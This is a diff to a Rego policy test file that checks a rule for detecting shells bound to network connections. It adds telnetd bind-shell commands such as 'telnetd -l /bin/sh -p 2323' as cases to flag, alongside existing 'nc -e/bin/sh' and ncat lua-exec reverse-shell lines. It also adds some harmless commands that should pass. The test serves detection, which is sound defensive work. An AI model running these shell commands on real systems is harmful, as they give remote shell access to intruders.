@@ -26,6 +26,9 @@ test_finds_programs_on_connections[command] if {
 		"ncat --lua-exec x.lua 203.0.113.5 1",
 		"ncat --lua-exec=x.lua 203.0.113.5 1",
 		"nc -e/bin/sh 203.0.113.5 1",
+		"telnetd -l /bin/sh -p 2323",
+		"telnetd -p 2323 -l/bin/sh",
+		"in.telnetd -L /bin/bash",
 	]
 	count(found(testing.command(command))) == 1
 }
@@ -33,6 +36,8 @@ test_finds_programs_on_connections[command] if {
 test_leaves_others[command] if {
 	some command in [
 		"nc -z db 5432",
+		"nc -l sh 5432",
+		"telnetd -l /bin/login",
 		"nc -zv -w 3 db 5432",
 		"nc -l -p 8080",
 		"ncat --ssl example.com 443",
